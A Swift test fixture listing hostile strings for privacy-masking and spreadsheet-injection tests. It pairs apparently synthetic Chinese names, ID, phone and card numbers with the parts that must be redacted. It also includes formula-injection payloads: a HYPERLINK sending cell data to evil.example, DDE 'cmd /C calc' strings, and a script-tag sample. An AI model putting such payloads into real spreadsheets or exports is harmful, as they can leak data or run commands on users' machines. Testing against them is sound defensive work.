/// Hostile strings for the privacy and spreadsheet-injection tests.
///
/// Each is booked both as a counterparty and as a memo of its own union's disbursement.
/// `secrets` are the parts that
/// must appear in no public output, compared also with every file's letters and digits only
/// (full-width folded, spaces and punctuation dropped).
enum PrivacyCorpus {
  struct Item {
    let text: String
    let secrets: [String]
  }

  static let items: [Item] = [
    Item(
      text: "困难职工张伟，身份证320602198503151234，电话13912345678",
      secrets: ["张伟", "320602198503151234", "13912345678"]),
    Item(text: "欧阳娜娜 家属王小红", secrets: ["欧阳娜娜", "王小红"]),
    Item(text: "店主陈建国", secrets: ["陈建国"]),
    Item(text: "张三家属", secrets: ["张三"]),
    Item(text: "１３８１２３４５６７８", secrets: ["13812345678"]),
    Item(text: "110101 19900307 4514", secrets: ["110101199003074514"]),
    Item(text: "ID:110101-19900307-4514", secrets: ["110101199003074514"]),
    Item(text: "138.1234.5678", secrets: ["13812345678"]),
    Item(text: "卡号6222 0212 3456 7890 123", secrets: ["6222021234567890123"]),
    Item(text: "身份证11010119900307451X号", secrets: ["11010119900307451X"]),
    Item(text: "老号码110101900307451", secrets: ["110101900307451"]),
    Item(text: "电话+86 138 1234 5678", secrets: ["13812345678"]),
    Item(text: "138\u{200B}1234\u{200B}5678", secrets: ["13812345678"]),
    Item(text: "张\u{200B}伟", secrets: ["张伟"]),
    Item(text: "王\u{200D}小\u{200D}红家属", secrets: ["王小红"]),
    Item(text: "司马相如", secrets: ["司马相如"]),
    Item(text: "诸葛亮家属", secrets: ["诸葛亮"]),
    Item(text: "职工李明", secrets: ["李明"]),
    Item(text: "家属赵丽", secrets: ["赵丽"]),
    Item(text: "王建华老师", secrets: ["王建华"]),
    Item(text: "李秀英女士", secrets: ["李秀英"]),
    Item(text: "刘德华先生", secrets: ["刘德华"]),
    Item(text: "困难户孙悦", secrets: ["孙悦"]),
    Item(text: "患者周杰", secrets: ["周杰"]),
    Item(text: "陈一发之子", secrets: ["陈一发"]),
    Item(text: "１１０１０１１９９００３０７４５１４", secrets: ["110101199003074514"]),
    Item(text: "一三八一二三四五六七八", secrets: ["一三八一二三四五六七八"]),
    Item(text: "6222-0212-3456-7890", secrets: ["6222021234567890"]),
    Item(text: "6222\u{3000}0212\u{3000}3456\u{3000}7890", secrets: ["6222021234567890"]),
    Item(text: "138 - 1234 - 5678", secrets: ["13812345678"]),
    Item(text: "（138）1234-5678", secrets: ["13812345678"]),
    Item(text: "Zhang Wei", secrets: ["ZhangWei"]),
    Item(text: "wang xiaohong 13912345678", secrets: ["wangxiaohong", "13912345678"]),
    Item(text: "张伟（ID:110101199003074514）", secrets: ["张伟", "110101199003074514"]),
    Item(text: "欧阳娜娜", secrets: ["欧阳娜娜"]),
    Item(text: "上官婉儿家属", secrets: ["上官婉儿"]),
    Item(text: "慕容复", secrets: ["慕容复"]),
    Item(text: "东方不败先生", secrets: ["东方不败"]),
    Item(text: "马云和马化腾", secrets: ["马云", "马化腾"]),
    Item(text: "王小红等三人", secrets: ["王小红"]),
    Item(text: "李雷、韩梅梅", secrets: ["李雷", "韩梅梅"]),
    Item(text: "张 伟", secrets: ["张伟"]),
    Item(text: "困难职工 张.伟", secrets: ["张伟"]),
    Item(text: "阿依古丽·买买提", secrets: ["阿依古丽", "买买提"]),
    Item(text: "Ouyang Nana", secrets: ["OuyangNana"]),
    Item(text: "李四（家属）", secrets: ["李四"]),
    Item(text: "家属：王小红", secrets: ["王小红"]),
    Item(text: "收款人:张伟 卡号:6222021234567890", secrets: ["张伟", "6222021234567890"]),
    Item(text: "张伟13812345678", secrets: ["张伟", "13812345678"]),
    Item(text: "𝟏𝟑𝟖𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖", secrets: ["13812345678"]),
    Item(text: "١٣٨١٢٣٤٥٦٧٨", secrets: ["13812345678"]),
    Item(text: "王小红", secrets: ["王小红"]),
    Item(text: "一线职工王芳", secrets: ["王芳"]),
    Item(text: "<script>alert('张伟')</script>", secrets: ["张伟"]),
    Item(text: "张伟\u{202E}", secrets: ["张伟"]),
    Item(text: "职工 张 伟", secrets: ["张伟"]),
    Item(text: "座机0513-85123456", secrets: ["051385123456", "85123456"]),
    Item(text: "慰问困难职工刘强家属", secrets: ["刘强"]),
    Item(text: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", secrets: []),
    Item(text: "+1+2", secrets: []),
    Item(text: "-2+3+cmd|' /C calc'!A0", secrets: []),
    Item(text: "@SUM(1+1)*cmd|' /C calc'!A0", secrets: []),
    Item(text: "\u{200B}=1+2", secrets: []),
    Item(text: "\u{2060}@SUM(1)", secrets: []),
    Item(text: "＝1+2", secrets: []),
    Item(text: "＠SUM(A1)", secrets: []),
  ]

  /// Texts published as written: an organisation as a counterparty, a memo of known words.
  static let safeCounterparty = "顺义区卫健委"
  static let safeMemo = "日期为推定"

  /// Counterparties and the exact form the site and the CSV export publish.
  static let publishedCounterparties = [
    "张三家属": "张*家属", "店主陈建国": "店主陈*国", "欧阳娜娜": "欧**娜", "司马相如": "司**如",
    "王小红": "王*红", "职工李明": "职工李*", "马云和马化腾": "马****腾", "王建华老师": "王*华老师",
    "困难职工 张.伟": "困难职工张*", "阿依古丽·买买提": "阿*****提",
    safeCounterparty: safeCounterparty,
  ]
}
